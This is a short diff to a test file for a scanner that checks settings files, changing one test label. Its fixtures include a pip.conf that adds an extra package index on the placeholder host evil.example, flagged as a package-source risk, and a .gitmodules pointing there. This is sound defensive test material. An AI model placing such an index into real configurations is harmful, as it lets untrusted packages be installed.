@@ -83,7 +83,7 @@ describe("settings", () => {
     ["pip.conf", "[global]\nextra-index-url = https://evil.example/simple\n", ["medium package-source"], "settings of pip"],
     [".gitmodules", '[submodule "x"]\npath = x\nurl = https://evil.example/x\n', [], "Git acts"],
     ["settings.toml", '[build-system]\nrequires = ["setuptools"]\n', [], "settings of a build tool"],
-    ["odd.ini", "this is a sentence\n", [], "1 lines that are no settings"],
+    ["odd.ini", "this is a sentence\n", [], "a line that is no setting"],
   ])("%s of a tool: %j", async (name, text, findings, reason) => {
     const { seen, why } = await walked(name, text);
     expect(seen).toEqual(findings);
